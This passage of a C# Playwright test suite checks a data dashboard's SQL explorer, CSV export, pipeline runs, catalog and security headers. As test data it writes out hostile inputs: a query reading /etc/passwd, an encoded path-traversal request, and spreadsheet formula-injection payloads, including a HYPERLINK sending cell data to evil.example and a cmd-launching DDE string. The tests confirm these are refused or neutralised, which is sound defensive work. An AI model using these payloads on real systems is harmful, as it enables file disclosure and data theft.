        await Assertions.Expect(cells.Nth(7)).ToHaveTextAsync("-1 year 2.5 seconds");
        await Assertions.Expect(cells.Nth(7)).ToHaveAttributeAsync("data-value", "P-1YT2.5S");
        await Assertions.Expect(cells.Nth(5)).ToHaveTextAsync("infinity");
        await Assertions.Expect(p.Page.Locator("[data-testid='result-table'] thead th").Nth(6)).ToHaveClassAsync("num");
        await Assertions.Expect(p.Page.GetByRole(AriaRole.Combobox, new() { Name = "Values", Exact = true }).Locator("option")).ToHaveTextAsync(["rating", "points"]);

        // The table list holds what GET /api/v1/tables lists; a table's button runs a first look at it.
        var listed = (await f.Http.GetFromJsonAsync<JsonElement>("api/v1/tables")).GetProperty("tables").EnumerateArray().ToList();
        await Assertions.Expect(p.Page.Locator("[data-testid='relations'] details")).ToHaveCountAsync(listed.Count);
        await p.Page.Locator("details[data-relation='products'] summary").ClickAsync();
        await p.Page.GetByTestId("open-products").ClickAsync();
        var products = (long)(await MartTable.QueryAsync(f.Http, "SELECT COUNT(*) AS n FROM products")).Numbers("n")[0]!.Value;
        await Assertions.Expect(rows).ToHaveCountAsync((int)Math.Min(100, products));
        var productColumns = listed.Single(t => t.GetProperty("name").GetString() == "products").GetProperty("columns").EnumerateArray().Select(c => c.GetProperty("name").GetString()!).ToList();
        Assert.Equal(productColumns, await p.Page.Locator("[data-testid='result-table'] thead th").AllInnerTextsAsync());
        // A column's name goes into the query where the cursor is.
        await input.FillAsync("SELECT  FROM products");
        await input.EvaluateAsync("el => el.setSelectionRange(7, 7)");
        await p.Page.Locator("details[data-relation='products'] li button").First.ClickAsync();
        await Assertions.Expect(input).ToHaveValueAsync($"SELECT {productColumns[0]} FROM products");

        var ordersBefore = (await MartTable.QueryAsync(f.Http, "SELECT COUNT(*) AS n FROM orders")).Numbers("n")[0];
        foreach (var sql in new[] { "DELETE FROM orders", "SELECT * FROM read_csv('/etc/passwd')" })
        {
            using var res = await f.Http.PostAsJsonAsync("api/v1/query", new { sql });
            Assert.Equal(HttpStatusCode.BadRequest, res.StatusCode);
            var detail = (await res.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("detail").GetString()!;
            await input.FillAsync(sql);
            await p.Page.GetByTestId("run-sql").ClickAsync();
            var error = p.Page.GetByTestId("sql-result").GetByRole(AriaRole.Alert);
            await Assertions.Expect(error).ToContainTextAsync(detail);
            Assert.DoesNotContain("   at ", await error.InnerTextAsync(), StringComparison.Ordinal);
            Assert.DoesNotContain("query refused: query refused", await error.InnerTextAsync(), StringComparison.Ordinal);
        }
        await p.ScreenshotAsync("sql-explorer-refused");
        await p.AssertAccessibleAsync();
        Assert.Equal(ordersBefore, (await MartTable.QueryAsync(f.Http, "SELECT COUNT(*) AS n FROM orders")).Numbers("n")[0]);
        p.AssertNoErrorsBut400FromQuery(2);
    }

    [Fact]
    public async Task Explorer_shows_integers_beyond_a_doubles_precision_digit_for_digit()
    {
        // A BIGINT key or a UBIGINT hash past 2^53: JSON.parse rounds 9007199254740993 to …992, and the grid, its
        // data-value and the CSV showed the neighbour; a HUGEINT (sent as digits) lost its last four digits to Number().
        const string sql = "SELECT 9007199254740993::BIGINT AS id, 18446744073709551615::UBIGINT AS top, "
                           + "12345678901234567890::HUGEINT AS total, -9223372036854775807::BIGINT AS low";
        var api = await MartTable.QueryAsync(f.Http, sql);
        var digits = api.Columns.Select(c => api.Texts(c)[0]).ToList();
        Assert.Equal(["9007199254740993", "18446744073709551615", "12345678901234567890", "-9223372036854775807"], digits);

        await using var p = await DashboardPage.OpenAsync(f, "/sql");
        await p.Page.GetByRole(AriaRole.Textbox, new() { Name = "SQL", Exact = true }).FillAsync(sql);
        await p.Page.GetByTestId("run-sql").ClickAsync();
        var cells = p.Page.Locator("[data-testid='result-table'] tbody tr").First.Locator("td");
        await Assertions.Expect(cells).ToHaveCountAsync(digits.Count);
        for (var i = 0; i < digits.Count; i++)
        {
            await Assertions.Expect(cells.Nth(i)).ToHaveAttributeAsync("data-value", digits[i]);
            // Grouped as the browser's locale writes numbers; every digit the API sent, none changed.
            var shown = await cells.Nth(i).InnerTextAsync();
            Assert.Equal(digits[i], new string(shown.Where(c => char.IsDigit(c) || c == '-').ToArray()));
        }
        var download = await p.Page.RunAndWaitForDownloadAsync(() => p.Page.GetByTestId("download-csv").ClickAsync());
        var csv = await File.ReadAllTextAsync((await download.PathAsync())!, Encoding.UTF8);
        Assert.Equal($"id,top,total,low\r\n{string.Join(',', digits)}\r\n", csv);
        p.AssertNoErrors();
    }

    /// <summary>A product title sent through ingest as a spreadsheet formula (and text of the other leading characters
    /// Excel and LibreOffice take as one: + - @ tab) downloads as text: the CSV cell starts with an apostrophe, so
    /// opening the file runs nothing. Numbers keep their sign, digit for digit, whether the API sent them as numbers or
    /// as digits.</summary>
    [Fact]
    public async Task Explorer_csv_keeps_formulas_in_the_data_as_text()
    {
        const string title = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
        using (var sent = await f.Http.PostAsJsonAsync("api/v1/ingest/products", new JsonObject { ["asin"] = "B0FORMULA1", ["title"] = title, ["price"] = 1.5 }))
        {
            Assert.Equal(HttpStatusCode.Accepted, sent.StatusCode);
        }
        const string sql = "SELECT title, '+1+cmd|'' /C calc''!A0' AS plus, '-2+3' AS minus, '@SUM(A1)' AS at, chr(9) || '=1' AS tab, "
                           + "-5 AS n, '-12.5' AS text_number, -12345678901234567890::HUGEINT AS big FROM products WHERE asin = 'B0FORMULA1'";
        using var guard = new CancellationTokenSource(TimeSpan.FromSeconds(60));
        while ((await MartTable.QueryAsync(f.Http, sql)).Rows.Count == 0)
        {
            await Task.Delay(200, guard.Token);
        }

        await using var p = await DashboardPage.OpenAsync(f, "/sql");
        await p.Page.GetByRole(AriaRole.Textbox, new() { Name = "SQL", Exact = true }).FillAsync(sql);
        await p.Page.GetByTestId("run-sql").ClickAsync();
        await Assertions.Expect(p.Page.Locator("[data-testid='result-table'] tbody tr")).ToHaveCountAsync(1);
        var download = await p.Page.RunAndWaitForDownloadAsync(() => p.Page.GetByTestId("download-csv").ClickAsync());
        var csv = await File.ReadAllTextAsync((await download.PathAsync())!, Encoding.UTF8);
        Assert.Equal("title,plus,minus,at,tab,n,text_number,big\r\n"
                     + "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",'+1+cmd|' /C calc'!A0,'-2+3,'@SUM(A1),'\t=1,-5,-12.5,-12345678901234567890\r\n", csv);
        p.AssertNoErrors();
    }

    [Fact]
    public async Task Explorer_shows_decimals_beyond_a_doubles_precision_digit_for_digit()
    {
        // DECIMAL(38,s) values of more than 15 significant digits: a double holds 1234567.1234567891 as …892 and the
        // wide one as 12345678901234567000; the grid, its data-value and the CSV showed that, and the grid cut every
        // decimal to two fraction digits. The widest (beyond .NET's decimal) the API sends as text.
        const string sql = "SELECT 1234567.1234567891::DECIMAL(38,10) AS fits, 12345678901234567890.123456789::DECIMAL(38,9) AS wide, "
                           + "99999999999999999999999999999.9::DECIMAL(38,1) AS huge, -0.1234567890123456789::DECIMAL(38,19) AS small";
        var api = await MartTable.QueryAsync(f.Http, sql);
        var exact = api.Columns.Select(c => api.Texts(c)[0]).ToList();
        Assert.Equal(["1234567.1234567891", "12345678901234567890.123456789", "99999999999999999999999999999.9", "-0.1234567890123456789"], exact);

        await using var p = await DashboardPage.OpenAsync(f, "/sql");
        await p.Page.GetByRole(AriaRole.Textbox, new() { Name = "SQL", Exact = true }).FillAsync(sql);
        await p.Page.GetByTestId("run-sql").ClickAsync();
        var cells = p.Page.Locator("[data-testid='result-table'] tbody tr").First.Locator("td");
        await Assertions.Expect(cells).ToHaveCountAsync(exact.Count);
        for (var i = 0; i < exact.Count; i++)
        {
            await Assertions.Expect(cells.Nth(i)).ToHaveAttributeAsync("data-value", exact[i]);
            // Grouped as the browser's locale writes numbers, with every fraction digit the API sent.
            var shown = await cells.Nth(i).InnerTextAsync();
            Assert.Equal(exact[i].Replace(".", "", StringComparison.Ordinal), new string(shown.Where(c => char.IsDigit(c) || c == '-').ToArray()));
            Assert.EndsWith(exact[i].Split('.')[1], shown, StringComparison.Ordinal);
        }
        var download = await p.Page.RunAndWaitForDownloadAsync(() => p.Page.GetByTestId("download-csv").ClickAsync());
        var csv = await File.ReadAllTextAsync((await download.PathAsync())!, Encoding.UTF8);
        Assert.Equal($"fits,wide,huge,small\r\n{string.Join(',', exact)}\r\n", csv);
        p.AssertNoErrors();
    }

    [Fact]
    public async Task Explorer_shows_the_latest_query_when_an_earlier_one_answers_after_it()
    {
        await using var p = await DashboardPage.OpenAsync(f, "/sql");
        // The first query's answer is held back until the second has been shown: a slow query overtaken by a quick
        // one. Its answer used to arrive last and replace the quick one's rows under the quick one's text.
        var held = await HeldFirstQuery.StartAsync(p.Page);
        var input = p.Page.GetByRole(AriaRole.Textbox, new() { Name = "SQL", Exact = true });
        await input.FillAsync("SELECT 'first' AS which");
        await p.Page.GetByTestId("run-sql").ClickAsync();
        await held.Route;

        await input.FillAsync("SELECT 'second' AS which");
        await input.PressAsync("Control+Enter");
        var cell = p.Page.Locator("[data-testid='result-table'] tbody td");
        await Assertions.Expect(cell).ToHaveTextAsync("second");

        // The overtaken query is given up (its request aborted, so the server stops it too), not shown late.
        try
        {
            await (await held.Route).FulfillAsync(new() { Status = 200, ContentType = "application/json",
                Body = """{"columns":[{"name":"which","type":"varchar"}],"rows":[["first"]],"truncated":false}""" });
        }
        catch (PlaywrightException)
        {
            // Already aborted by the page: nothing left to answer.
        }
        Assert.StartsWith("failed", await held.Outcome.WaitAsync(TimeSpan.FromSeconds(30)), StringComparison.Ordinal);
        await Assertions.Expect(cell).ToHaveTextAsync("second");
        await Assertions.Expect(p.Page.GetByTestId("run-sql")).ToBeEnabledAsync();
        await Assertions.Expect(p.Page.GetByTestId("sql-status")).ToContainTextAsync("1 row");
        p.AssertNoErrors();
    }

    [Fact]
    public async Task A_lookup_shows_the_latest_value_when_an_earlier_lookup_answers_after_it()
    {
        var asins = (await MartTable.QueryAsync(f.Http, "SELECT asin FROM products ORDER BY asin LIMIT 2")).Texts("asin");
        await using var p = await DashboardPage.OpenAsync(f, "/products");
        // The first lookup's answer is held back until the second has been shown, as a slow answer overtaken.
        var held = await HeldFirstQuery.StartAsync(p.Page);
        var input = p.Page.GetByRole(AriaRole.Searchbox, new() { Name = "ASIN", Exact = true });
        await input.FillAsync(asins[0]);
        await input.PressAsync("Enter");
        await held.Route;

        await input.FillAsync(asins[1]);
        await input.PressAsync("Enter");
        var asinCell = p.Page.Locator("[data-testid='asin-result'] td[data-col='asin']");
        await Assertions.Expect(asinCell).ToHaveTextAsync(asins[1]);

        // The overtaken lookup is given up, not shown late under the second ASIN.
        try
        {
            await (await held.Route).ContinueAsync();
        }
        catch (PlaywrightException)
        {
            // Already aborted by the page.
        }
        Assert.StartsWith("failed", await held.Outcome.WaitAsync(TimeSpan.FromSeconds(30)), StringComparison.Ordinal);
        await Assertions.Expect(asinCell).ToHaveTextAsync(asins[1]);
        p.AssertNoErrors();
    }

    /// <summary>A run stuck on a source that never answers is ended from its page: the run shows failed and its
    /// tasks say they were cancelled, as the API has them.</summary>
    [Fact]
    public async Task A_running_run_is_cancelled_from_the_pipelines_page()
    {
        // Accepts connections and never answers: the extract waits on it for its whole request timeout.
        using var silent = new System.Net.Sockets.TcpListener(IPAddress.Loopback, 0);
        silent.Start();
        var held = new List<System.Net.Sockets.TcpClient>();
        _ = Task.Run(async () =>
        {
            while (true)
            {
                var client = await silent.AcceptTcpClientAsync();
                lock (held)
                {
                    held.Add(client);
                }
            }
        });
        const string day = "2024-03-01";
        var url = $"http://127.0.0.1:{((IPEndPoint)silent.LocalEndpoint).Port}";
        using (var created = await f.Http.PostAsJsonAsync("api/v1/dags/seller_catalog/runs",
                   new { date = day, @params = new Dictionary<string, string> { ["seller_id"] = "SILENT-SELLER", ["api_url"] = url, ["api_key"] = "k" } }))
        {
            Assert.Equal(HttpStatusCode.Created, created.StatusCode);
        }
        await using var p = await DashboardPage.OpenAsync(f, $"/pipelines?dag=seller_catalog&ds={day}");
        await Assertions.Expect(p.Page.Locator($"[data-testid='runs-table'] tr:has(td[data-value='{day}']) td[data-col='state']")).ToHaveTextAsync("running");

        await p.Page.GetByRole(AriaRole.Button, new() { Name = "Cancel run", Exact = true }).ClickAsync();

        await Assertions.Expect(p.Page.Locator($"[data-testid='runs-table'] tr:has(td[data-value='{day}']) td[data-col='state']")).ToHaveTextAsync("failed");
        var run = await f.Http.GetFromJsonAsync<JsonElement>($"api/v1/dags/seller_catalog/runs/{day}");
        Assert.Equal("failed", run.GetProperty("state").GetString());
        var cancelled = run.GetProperty("tasks").EnumerateArray().Where(t => t.GetProperty("error").GetString() == "cancelled by hand").Select(t => t.GetProperty("task").GetString()).ToList();
        Assert.Contains("extract", cancelled);
        await Assertions.Expect(p.Page.Locator("[data-testid='tasks-table'] td.task-error", new() { HasText = "cancelled by hand" })).ToHaveCountAsync(cancelled.Count);
        await Assertions.Expect(p.Page.GetByRole(AriaRole.Button, new() { Name = "Cancel run", Exact = true })).ToHaveCountAsync(0);
        p.AssertNoErrors();
        silent.Stop();
        lock (held)
        {
            held.ForEach(c => c.Dispose());
        }
    }

    [Fact]
    public async Task Pipelines_and_catalog_pages_list_what_the_API_lists()
    {
        await using (var p = await DashboardPage.OpenAsync(f, "/pipelines"))
        {
            using var res = await f.Http.GetAsync("api/v1/dags");
            var dags = res.IsSuccessStatusCode ? ListOf(await res.Content.ReadFromJsonAsync<JsonElement>(), "dags") : [];
            if (dags.Count == 0)
            {
                await Assertions.Expect(p.Page.GetByTestId("empty-state")).ToBeVisibleAsync();
            }
            else
            {
                await Assertions.Expect(p.Page.Locator("[data-testid='dags-table'] tbody tr")).ToHaveCountAsync(dags.Count);
                // The page opens on the DAG whose run started last (the fixture's seller catalog or user behaviour runs,
                // or the products snapshots of the products alert test when it ran first).
                var latest = dags.Where(d => d.GetProperty("lastStartedAt").ValueKind == JsonValueKind.String)
                    .MaxBy(d => d.GetProperty("lastStartedAt").GetDateTime()).GetProperty("name").GetString()!;
                Assert.Contains(latest, new[] { "seller_catalog", "user_behaviour", "products_snapshot" });
                await Assertions.Expect(p.Page.Locator("[data-testid='dags-table'] a[aria-current='true']")).ToHaveTextAsync(latest);
                // Another DAG, chosen in the table (one without required parameters, that other tests do not read), is
                // triggered for a past day from the form: the run shows up without a reload.
                var dag = "products_snapshot";
                await p.Page.Locator("[data-testid='dags-table']").GetByRole(AriaRole.Link, new() { Name = dag, Exact = true }).ClickAsync();
                await p.WaitReadyAsync($"/pipelines?dag={dag}");
                await Assertions.Expect(p.Page.Locator("[data-testid='dags-table'] a[aria-current='true']")).ToHaveTextAsync(dag);
                await p.Page.GetByLabel("Date (ds), or first day of a backfill").FillAsync("2024-01-02");
                await p.Page.GetByRole(AriaRole.Button, new() { Name = "Trigger", Exact = true }).ClickAsync();
                await Assertions.Expect(p.Page.GetByTestId("trigger-status")).ToContainTextAsync($"Started {dag}");
                await Assertions.Expect(p.Page.Locator("[data-testid='runs-table'] td[data-col='ds'][data-value='2024-01-02']")).ToHaveCountAsync(1);
                using var runs = await f.Http.GetAsync($"api/v1/dags/{dag}/runs");
                Assert.Contains((await runs.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("runs").EnumerateArray(), r => r.GetProperty("ds").GetString() == "2024-01-02");
            }
            await p.ScreenshotAsync("pipelines");
            await p.AssertAccessibleAsync();
            p.AssertNoErrors();
        }
        // A run of the fixture's seller catalog: its task states as the API gives them, and a task's log on demand.
        var day = DashboardFixture.SellerDays[1];
        await using (var p = await DashboardPage.OpenAsync(f, $"/pipelines?dag=seller_catalog&ds={day}"))
        {
            var run = await f.Http.GetFromJsonAsync<JsonElement>($"api/v1/dags/seller_catalog/runs/{day}");
            var tasks = run.GetProperty("tasks").EnumerateArray().Select(t => $"{t.GetProperty("task").GetString()}={t.GetProperty("state").GetString()}").ToList();
            Assert.Contains("asin_matches=success", tasks);
            var rows = p.Page.Locator("[data-testid='tasks-table'] tbody tr");
            await Assertions.Expect(rows).ToHaveCountAsync(tasks.Count);
            var shown = await rows.EvaluateAllAsync<string[]>("rows => rows.map(r => r.querySelector('th').textContent + '=' + r.querySelector('td').textContent)");
            Assert.Equal(tasks.Order(StringComparer.Ordinal), shown.Order(StringComparer.Ordinal));
            var log = await f.Http.GetFromJsonAsync<JsonElement>($"api/v1/dags/seller_catalog/runs/{day}/tasks/asin_matches/logs");
            var matchLine = log.GetProperty("lines").EnumerateArray().Select(l => l.GetString()!).First(l => l.Contains("ASIN match", StringComparison.Ordinal));
            // From the keyboard: the button opens the log and the log takes the focus, named by its task.
            await p.Page.GetByRole(AriaRole.Button, new() { Name = "Log of asin_matches" }).FocusAsync();
            await p.Page.Keyboard.PressAsync("Enter");
            var shownLog = p.Page.GetByLabel("Task log: asin_matches");
            await Assertions.Expect(shownLog).ToContainTextAsync(matchLine);
            await Assertions.Expect(shownLog).ToBeFocusedAsync();
            await p.AssertAccessibleAsync();
            p.AssertNoErrors();
        }
        await using (var p = await DashboardPage.OpenAsync(f, "/catalog"))
        {
            using var res = await f.Http.GetAsync("api/v1/catalog");
            var entries = res.IsSuccessStatusCode ? ListOf(await res.Content.ReadFromJsonAsync<JsonElement>(), "tables", "entries", "datasets") : [];
            if (entries.Count == 0)
            {
                await Assertions.Expect(p.Page.GetByTestId("empty-state")).ToBeVisibleAsync();
            }
            else
            {
                await Assertions.Expect(p.Page.Locator("main section.card[data-testid^='catalog-']")).ToHaveCountAsync(entries.Count);
            }
            // The table crawled by the fixture is listed with the columns and partitions the API reports.
            var crawled = entries.Single(e => e.GetProperty("name").GetString() == DashboardFixture.CrawledTable);
            Assert.Equal("crawled", crawled.GetProperty("kind").GetString());
            var apiColumns = crawled.GetProperty("columns").EnumerateArray().Select(c => c.GetProperty("name").GetString()!).ToList();
            Assert.NotEmpty(apiColumns);
            var apiPartitions = crawled.GetProperty("partitions").EnumerateArray()
                .SelectMany(k => k.GetProperty("values").EnumerateArray().Select(v => $"{k.GetProperty("key").GetString()}={v.GetString()}")).ToList();
            Assert.Equal(["snapshot=2024-01-01", "snapshot=2024-01-02"], apiPartitions.Order());
            var cardOf = p.Page.GetByTestId($"catalog-{DashboardFixture.CrawledTable}");
            await Assertions.Expect(cardOf.Locator($"[data-testid='columns-{DashboardFixture.CrawledTable}'] td[data-col='column']")).ToHaveCountAsync(apiColumns.Count);
            Assert.Equal(apiColumns, await cardOf.Locator("td[data-col='column']").EvaluateAllAsync<string[]>("els => els.map(e => e.dataset.value)"));
            var shownPartitions = await cardOf.Locator($"[data-testid='partitions-{DashboardFixture.CrawledTable}'] li").EvaluateAllAsync<string[]>("els => els.map(e => e.dataset.key + '=' + e.dataset.value)");
            Assert.Equal(apiPartitions, shownPartitions);
            // Each dataset's card says what its clean zone holds in the lake, as GET /api/v1/lake reports it (read before
            // and after, since a lake flush or a merge may land in between).
            var lakeBefore = CleanZones(await f.Http.GetFromJsonAsync<JsonElement>("api/v1/lake"));
            var orders = p.Page.GetByTestId("lake-orders");
            await Assertions.Expect(orders).ToContainTextAsync("files");
            var shown = (await orders.GetAttributeAsync("data-files"), await orders.GetAttributeAsync("data-bytes"), await orders.GetAttributeAsync("data-manifests"));
            var lakeAfter = CleanZones(await f.Http.GetFromJsonAsync<JsonElement>("api/v1/lake"));
            Assert.Contains(shown, new[] { lakeBefore["orders"], lakeAfter["orders"] });
            await p.ScreenshotAsync("catalog");
            await p.AssertAccessibleAsync();
            p.AssertNoErrors();
        }
    }

    /// <summary>The products snapshot's alerts as the docs tell an operator to raise one: a day's snapshot, a new price
    /// sent through the ingest API, the next day's snapshot. The alert is in the API and in the dashboard's feeds, where
    /// its source tells it from a seller's.</summary>
    [Fact]
    public async Task A_price_sent_between_two_products_snapshots_shows_as_a_products_alert()
    {
        var product = await MartTable.QueryAsync(f.Http, "SELECT asin, title, price FROM products WHERE price > 1 ORDER BY asin LIMIT 1");
        var asin = product.Texts("asin")[0];
        var before = product.Numbers("price")[0]!.Value;
        var after = Math.Round(before * 1.5, 2);
        await f.RunDagAsync("products_snapshot", "2025-06-01", new Dictionary<string, string?>());
        var record = new JsonObject { ["asin"] = asin, ["title"] = product.Texts("title")[0], ["price"] = after };
        using (var sent = await f.Http.PostAsJsonAsync("api/v1/ingest/products", record))
        {
            Assert.Equal(HttpStatusCode.Accepted, sent.StatusCode);
        }
        using var guard = new CancellationTokenSource(TimeSpan.FromSeconds(60));
        while ((await MartTable.QueryAsync(f.Http, $"SELECT price FROM products WHERE asin = '{asin}'")).Numbers("price")[0] != after)
        {
            await Task.Delay(200, guard.Token);
        }
        await f.RunDagAsync("products_snapshot", "2025-06-02", new Dictionary<string, string?>());

        var alert = Assert.Single((await f.Http.GetFromJsonAsync<JsonElement>($"api/v1/alerts?source=products&asin={asin}")).GetProperty("alerts").EnumerateArray());
        Assert.Equal("price_change", alert.GetProperty("kind").GetString());
        Assert.Equal((before, after), (alert.GetProperty("oldValue").GetDouble(), alert.GetProperty("newValue").GetDouble()));

        await using var p = await DashboardPage.OpenAsync(f, "/sellers");
        var row = p.Page.Locator("[data-testid='table-alerts'] tbody tr").Filter(new() { Has = p.Page.Locator($"td[data-col='asin'][data-value='{asin}']") });
        await Assertions.Expect(row).ToHaveCountAsync(1);
        await Assertions.Expect(row.Locator("td[data-col='source']")).ToHaveTextAsync("products");
        await Assertions.Expect(row.Locator("td[data-col='kind']")).ToHaveTextAsync("price_change");
        Assert.Equal(after, double.Parse((await row.Locator("td[data-col='new_value']").GetAttributeAsync("data-value"))!, CultureInfo.InvariantCulture));
        await Assertions.Expect(row.Locator("td[data-col='new_value']")).ToHaveTextAsync(new System.Text.RegularExpressions.Regex(@"^\$\d[\d,]*\.\d\d$"));
        await p.AssertAccessibleAsync();
        // The overview's recent alerts, newest first, begin with it.
        await p.Page.GetByRole(AriaRole.Link, new() { Name = "Overview", Exact = true }).ClickAsync();
        await p.WaitReadyAsync("/");
        await Assertions.Expect(p.Page.GetByTestId("recent-alerts").Locator("li").First).ToContainTextAsync(asin);
        p.AssertNoErrors();
    }

    [Fact]
    public async Task Catalog_page_lists_the_dead_letters_apart_from_the_datasets_with_their_rows()
    {
        // One review ingest rejects (a rating of 9), landed in dead_letters through the log.
        var marker = Guid.NewGuid().ToString("N")[..8];
        using (var sent = await f.Http.PostAsync("api/v1/ingest/reviews", new StringContent($$"""{"review_id":"dead-{{marker}}","asin":"B000DEAD02","rating":9}""", Encoding.UTF8, "application/json")))
        {
            Assert.Equal(HttpStatusCode.BadRequest, sent.StatusCode);
        }
        using var guard = new CancellationTokenSource(TimeSpan.FromSeconds(60));
        while ((await MartTable.QueryAsync(f.Http, $"SELECT count(*) AS n FROM dead_letters WHERE raw LIKE '%dead-{marker}%'")).Texts("n")[0] != "1")
        {
            await Task.Delay(200, guard.Token);
        }
        var rows = (await MartTable.QueryAsync(f.Http, "SELECT count(*) AS n FROM dead_letters")).Texts("n")[0];

        await using var p = await DashboardPage.OpenAsync(f, "/catalog");
        var dead = p.Page.GetByTestId("catalog-dead_letters");
        await Assertions.Expect(dead).ToHaveAttributeAsync("data-kind", "dead_letters");
        await Assertions.Expect(dead.Locator("dd").First).ToContainTextAsync("dead letters");
        await Assertions.Expect(p.Page.GetByTestId("rows-dead_letters")).ToHaveAttributeAsync("data-value", rows);
        // Not a dataset's card: no drop button, and its link lists the refused records with their reasons.
        await Assertions.Expect(p.Page.GetByTestId("catalog-orders")).ToHaveAttributeAsync("data-kind", "dataset");
        await Assertions.Expect(dead.GetByRole(AriaRole.Button)).ToHaveCountAsync(0);
        await p.AssertAccessibleAsync();
        await dead.GetByRole(AriaRole.Link, new() { Name = "rejected records" }).ClickAsync();
        await p.WaitReadyAsync("/sql");
        await Assertions.Expect(p.Page.Locator("[data-testid='result-table'] td[data-col='raw']").Filter(new() { HasText = $"dead-{marker}" })).ToHaveCountAsync(1);
        p.AssertNoErrors();
    }

    [Fact]
    public async Task Catalog_page_crawls_a_folder_into_a_table_and_drops_it_again()
    {
        using var files = new TempDir("dashboard-page-crawl");
        File.Copy(SampleData.CategoriesCsv, files.Combine("categories.csv"));
        const string table = "page_crawl";
        await using var p = await DashboardPage.OpenAsync(f, "/catalog");
        var status = p.Page.GetByTestId("catalog-status");

        // A dataset's name is refused, with the server's reason.
        await p.Page.GetByLabel("Folder, file or glob on the server").FillAsync(files.Path);
        await p.Page.GetByLabel("Table name (optional)").FillAsync("orders");
        await p.Page.GetByRole(AriaRole.Button, new() { Name = "Crawl", Exact = true }).ClickAsync();
        await Assertions.Expect(status.GetByRole(AriaRole.Alert)).ToContainTextAsync("'orders' is a dataset or mart name");

        await p.Page.GetByLabel("Table name (optional)").FillAsync(table);
        await p.Page.GetByRole(AriaRole.Button, new() { Name = "Crawl", Exact = true }).ClickAsync();

        await Assertions.Expect(status).ToHaveTextAsync($"Crawled into {table}.");
        var card = p.Page.GetByTestId($"catalog-{table}");
        var rows = File.ReadLines(SampleData.CategoriesCsv).Count() - 1;
        await Assertions.Expect(card.Locator("dd").Nth(2)).ToHaveTextAsync(rows.ToString("N0", CultureInfo.InvariantCulture));
        Assert.Equal(["id", "category_name"], await card.Locator("td[data-col='column']").EvaluateAllAsync<string[]>("els => els.map(e => e.dataset.value)"));
        using (var query = await f.Http.PostAsJsonAsync("api/v1/query", new { sql = $"SELECT count(*) FROM {table}" }))
        {
            Assert.Equal(rows, (await query.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("rows")[0][0].GetInt64());
        }
        await p.AssertAccessibleAsync();

        // Dropping asks first; dismissed, nothing happens (the page reads the status once the click's handler is done).
        var asked = new TaskCompletionSource<string>(TaskCreationOptions.RunContinuationsAsynchronously);
        p.Page.Dialog += DismissOnce;
        await p.Page.GetByRole(AriaRole.Button, new() { Name = $"Drop table {table}" }).ClickAsync();
        Assert.Contains($"Drop the crawled table {table}", await asked.Task.WaitAsync(TimeSpan.FromSeconds(30)), StringComparison.Ordinal);
        Assert.Equal($"Crawled into {table}.", await status.TextContentAsync());
        await Assertions.Expect(card).ToBeVisibleAsync();
        p.Page.Dialog += (_, dialog) => dialog.AcceptAsync();
        await p.Page.GetByRole(AriaRole.Button, new() { Name = $"Drop table {table}" }).ClickAsync();

        await Assertions.Expect(status).ToHaveTextAsync($"Dropped {table}.");
        await Assertions.Expect(card).ToHaveCountAsync(0);
        var listed = ListOf(await f.Http.GetFromJsonAsync<JsonElement>("api/v1/catalog"), "tables").Select(t => t.GetProperty("name").GetString()).ToList();
        Assert.DoesNotContain(table, listed);
        Assert.Contains(DashboardFixture.CrawledTable, listed);
        // Datasets have no drop button.
        await Assertions.Expect(p.Page.GetByRole(AriaRole.Button, new() { Name = "Drop table orders" })).ToHaveCountAsync(0);
        p.AssertNoErrorsBut((400, "/api/v1/crawl", 1));

        void DismissOnce(object? sender, IDialog dialog)
        {
            p.Page.Dialog -= DismissOnce;
            _ = dialog.DismissAsync();
            asked.TrySetResult(dialog.Message);
        }
    }

    [Fact]
    public async Task Overview_is_readable_on_a_phone_and_usable_by_keyboard()
    {
        await using var p = await DashboardPage.OpenAsync(f, "/", width: 390, height: 844);
        // Nothing wider than the screen except inside scrollable regions.
        var overflow = await p.Page.EvaluateAsync<int>("() => document.documentElement.scrollWidth - document.documentElement.clientWidth");
        Assert.True(overflow <= 0, $"page overflows a phone screen by {overflow}px");
        // Tab reaches the navigation (after the skip link and the brand); Enter on a link changes the page.
        var focused = "";
        for (var i = 0; i < 6 && focused != "Products"; i++)
        {
            await p.Page.Keyboard.PressAsync("Tab");
            focused = await p.Page.EvaluateAsync<string>("() => document.activeElement?.textContent ?? ''");
        }
        Assert.Equal("Products", focused);
        await p.Page.Keyboard.PressAsync("Enter");
        await p.WaitReadyAsync("/products");
        await p.ScreenshotAsync("products-phone");
        p.AssertNoErrors();
    }

    [Fact]
    public async Task Server_sends_the_page_with_a_strict_policy_and_keeps_api_paths_apart()
    {
        using var page = await f.Http.GetAsync("/");
        Assert.Equal(HttpStatusCode.OK, page.StatusCode);
        Assert.Equal("text/html", page.Content.Headers.ContentType?.MediaType);
        var csp = string.Join(";", page.Headers.GetValues("Content-Security-Policy"));
        Assert.Contains("default-src 'self'", csp, StringComparison.Ordinal);
        Assert.DoesNotContain("unsafe", csp, StringComparison.Ordinal);
        Assert.Equal("nosniff", page.Headers.GetValues("X-Content-Type-Options").Single());
        var html = await page.Content.ReadAsStringAsync();
        // No inline script: every script element loads a file of the app.
        Assert.DoesNotMatch("<script(?![^>]*\\bsrc=)[^>]*>", html);

        // A client route falls back to the page; an unknown API path stays a 404 with a JSON body.
        using var deep = await f.Http.GetAsync("/sales");
        Assert.Equal(HttpStatusCode.OK, deep.StatusCode);
        using var api = await f.Http.GetAsync("/api/v1/no-such-thing");
        Assert.Equal(HttpStatusCode.NotFound, api.StatusCode);
        Assert.NotEqual("text/html", api.Content.Headers.ContentType?.MediaType);
        using var traversal = await f.Http.GetAsync("/assets/..%2F..%2F..%2Fetc%2Fpasswd");
        Assert.DoesNotContain("root:", await traversal.Content.ReadAsStringAsync(), StringComparison.Ordinal);
    }

    private static List<JsonElement> ListOf(JsonElement body, params string[] keys)
    {
        if (body.ValueKind == JsonValueKind.Array)
        {
            return body.EnumerateArray().ToList();
        }
        foreach (var k in keys)
        {
            if (body.ValueKind == JsonValueKind.Object && body.TryGetProperty(k, out var list) && list.ValueKind == JsonValueKind.Array)
            {
                return list.EnumerateArray().ToList();
            }
        }
        return [];
    }

    /// <summary>Per dataset of a <c>GET /api/v1/lake</c> answer: its clean files, their bytes and its manifests, as the
    /// catalog page's data attributes hold them.</summary>
